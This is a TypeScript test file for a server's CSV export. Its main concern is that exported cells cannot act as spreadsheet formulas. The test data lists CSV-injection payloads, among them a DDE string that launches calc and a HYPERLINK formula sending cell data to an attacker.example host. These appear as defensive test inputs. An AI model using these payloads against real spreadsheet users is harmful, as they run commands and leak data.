import assert from 'node:assert/strict';
import {existsSync, readFileSync} from 'node:fs';
import {join} from 'node:path';
import {describe, it, type TestContext} from 'node:test';
import {sql} from 'kysely';
import {listenAt} from '../../demo/serving/listen.js';
import {packageRoot} from '../../demo/serving/package-root.js';
import {csvFormat} from '../../demo/publisher/operator/csv.js';
import {exportOf} from '../../demo/publisher/operator/export.js';
import {escapeFormulas} from '../../demo/publisher/operator/formulas.js';
import type {PublisherOptions} from '../../demo/publisher/server.js';
import {waitFor} from '../support/wait.js';
import {cellsOf, recordsOf} from './support/csv.js';
import {eachSharedDatabase} from './support/databases.js';
import {keptLog} from './support/log.js';
import {adminToken, startWithOperator, storeMany} from './support/operator.js';
import {aRequest, send} from './support/sending.js';

const corpus = join(packageRoot, '../shared/corpora/attacks/csv-injection.json');

function corpusPayloads(): string[] {
  if (!existsSync(corpus)) return [];
  return (JSON.parse(readFileSync(corpus, 'utf8')) as {payload: string}[]).map(({payload}) => payload);
}

const command = `cmd|' /C calc'!A0`;

/** Texts that a spreadsheet might run. */
const formulas = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '\u00a0=',
    '\u200b=',
    '"=',
    `'=`,
    '" =',
    '＝',
    '＋',
    '－',
    '＠',
    '﹣',
    '⁼',
  ].map(start => start + command),
  ...[
    '=',
    '-1',
    '+49 30 1234',
    '\ttab',
    '\rreturn',
    '@',
    'a;=1+1',
    'a; "=1+1',
    'a\n=1+1',
    'a\r\n-1',
    `x";"=1+1`,
    'x,=1+1',
  ],
  '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
  ...corpusPayloads(),
];

const startsFormula = /^[\s"'\p{Cf}]*[=+\-@＝＋－＠﹣⁼]/u;

const isNumber = /^-?\d+$/;

async function csv(url: string, query = ''): Promise<Response> {
  return fetch(`${url}/api/requests?format=csv${query}`, {headers: {Authorization: `Bearer ${adminToken}`}});
}

eachSharedDatabase((_name, shared) => {
  const start = (options: Partial<PublisherOptions> = {}) =>
    startWithOperator(shared().place, {database: shared(), ...options});

  /** Moves a table away, so that queries fail, until the test is done. */
  async function breakRequests(test: TestContext): Promise<void> {
    const {database} = shared();
    await sql`alter table requests rename to elsewhere`.execute(database);
    test.after(() => sql`alter table elsewhere rename to requests`.execute(database));
  }

  describe('the CSV export', () => {
    it('has a header row and a file name, even without requests', async () => {
      const {url} = await start();
      const response = await csv(url);
      assert.equal(response.status, 200);
      assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
      assert.match(
        response.headers.get('content-disposition') ?? '',
        /^attachment; filename="requests-\d{4}-\d\d-\d\d\.csv"$/,
      );
      const bytes = Buffer.from(await response.arrayBuffer());
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'one byte order mark');
      assert.match(bytes.subarray(3).toString(), /^"id","receivedAt",[^\r\n]+\r\n$/);
      const head = await fetch(`${url}/api/requests?format=csv`, {
        method: 'HEAD',
        headers: {Authorization: `Bearer ${adminToken}`},
      });
      assert.equal(head.status, 200);
    });

    it('keeps text of any script with quotes and line breaks, and all details of the consent', async () => {
      const {url} = await start();
      const message = 'Ægir, "王小明"\r\nمحمد\n\n""👩🏽‍⚕️,\u2028;"';
      const consent = {
        ...aRequest().consent,
        text: 'I agree, “yes”,\nto all.',
        marketing: true,
        marketingText: 'News; too.',
        termsUrl: '/terms',
        gpc: true,
      };
      const extra = {'a;b': '=1;-2', quote: '"', line: '\n'};
      const request = aRequest({fields: {email: 'a@reader.example', message}, consent, extra});
      assert.equal((await send(url, request)).status, 201);
      const text = await (await csv(url)).text();
      const [record, ...others] = recordsOf(text);
      assert.ok(record);
      assert.deepEqual(others, []);
      assert.ok(text.includes('\r\n"'), 'lines end with CRLF (RFC 4180)');
      assert.equal(record['id'], request.id);
      assert.equal(record['message'], message);
      assert.deepEqual(JSON.parse(record['extra'] ?? ''), extra, 'the JSON has the same value');
      for (const [name, value] of Object.entries(consent))
        assert.equal(record[`consent.${name}`], value === null ? '' : String(value), name);
      assert.deepEqual(
        [record['proof.elapsed'], record['proof.altcha'], record['flagged'], record['mail.state']],
        ['41250', undefined, 'false', 'waiting'],
      );
    });

    it('runs nothing in a spreadsheet, with any separator', async () => {
      const {url} = await start();
      for (const text of formulas) {
        const request = aRequest({
          booklet: text,
          fields: {email: '-a@reader.example', name: text, message: `${text}\n${text}`},
          extra: {[text]: text, next: `;${text}`},
          consent: {...aRequest().consent, text, version: text, privacyUrl: text},
          context: {...aRequest().context, title: text, capture: {[`;${text}`]: `";"${text}`}},
          proof: {altcha: null, trap: text, elapsed: -5},
        });
        assert.equal((await send(url, request)).status, 201, JSON.stringify(text));
      }
      const text = await (await csv(url)).text();
      assert.equal(recordsOf(text).length, formulas.length);
      for (const separator of [',', ';', '\t']) {
        for (const cell of cellsOf(text, separator).flat()) {
          if (isNumber.test(cell)) continue;
          if (separator === ',') assert.doesNotMatch(cell, /^[\t\r\n]/);
          assert.doesNotMatch(
            cell.replace(/^'(?=.)/s, '|'),
            startsFormula,
            `a cell between ${separator}: ${cell}`,
          );
        }
      }
      for (const [index, record] of recordsOf(text).reverse().entries())
        assert.equal(
          record['name']?.replaceAll("'", ''),
          formulas[index]?.replaceAll("'", ''),
          'only apostrophes were added',
        );
    });

    it('is complete, and new requests are stored meanwhile without waiting', async () => {
      await storeMany(shared().database, 5000);
      const publisher = await start();
      const response = await csv(publisher.url);
      const reader = response.body?.getReader();
      assert.ok(reader);
      const chunks = [(await reader.read()).value];
      const late = aRequest();
      assert.equal((await send(publisher.url, late)).status, 201, 'stored during the export');
      for (let part = await reader.read(); !part.done; part = await reader.read()) chunks.push(part.value);
      const ids = recordsOf(Buffer.concat(chunks.filter(chunk => chunk !== undefined)).toString()).map(
        ({id}) => id,
      );
      const stored = (await publisher.requests()).map(({id}) => id).filter(id => id !== late.id);
      assert.deepEqual(ids, stored.reverse());
      const some = recordsOf(await (await csv(publisher.url, '&q=number-77')).text());
      assert.equal(some.length, 11, '77 and 770 to 779');
    });

    it('stops the queries when the client disconnects', async () => {
      // More than the buffers between server and client hold.
      await storeMany(shared().database, 1500, 'x'.repeat(20_000));
      const {log, lines} = keptLog('info');
      const {url} = await start({log});
      const reader = (await csv(url)).body?.getReader();
      await reader?.read();
      await reader?.cancel();
      const line = await waitFor(() => lines.find(each => each.includes('export')), 'the export has ended');
      assert.match(line, /The client disconnected during an export/);
      assert.ok((JSON.parse(line) as {requests: number}).requests < 1500, line);
    });

    it('is aborted when the database fails, which is logged and not printed', async t => {
      await storeMany(shared().database, 2000, 'x'.repeat(5000));
      const {log, lines} = keptLog();
      const printed = t.mock.method(console, 'error', () => undefined);
      const reported = t.mock.method(console, 'info', () => undefined);
      const answer = () => new Response(exportOf(shared().database, {}, log, csvFormat()));
      const server = await listenAt(answer, {host: '127.0.0.1', port: 0, setting: 'PORT'});
      const response = await fetch(server.url);
      const reader = exportOf(shared().database, {}, log, csvFormat()).getReader();
      await reader.read();
      await breakRequests(t);
      const readAll = async () => {
        while (!(await reader.read()).done);
      };
      await assert.rejects(readAll(), {message: 'The export failed.', code: 'ERR_STREAM_PREMATURE_CLOSE'});
      await assert.rejects(response.text(), 'the response is incomplete');
      await waitFor(() => reported.mock.callCount() > 0, 'the server has noticed it');
      await server.close();
      assert.equal(lines.length, 2, 'both are logged');
      for (const line of lines) assert.match(line, /"code":"42P01".+An export failed/);
      assert.doesNotMatch(lines.join(), /reader\.example/);
      assert.equal(printed.mock.callCount(), 0);
    });
  });
});

describe('text for a spreadsheet', () => {
  it('gets an apostrophe only where it could be a formula', () => {
    for (const text of formulas) {
      if (text !== 'x,=1+1') assert.ok(escapeFormulas(text).includes("'"), JSON.stringify(text));
    }
    for (const text of ['', 'a=b', 'Müller-Lüdenscheidt', "O'Brien", 'a - b', 'a; b', '12', 'a\nb', '(+49)'])
      assert.equal(escapeFormulas(text), text);
  });
});
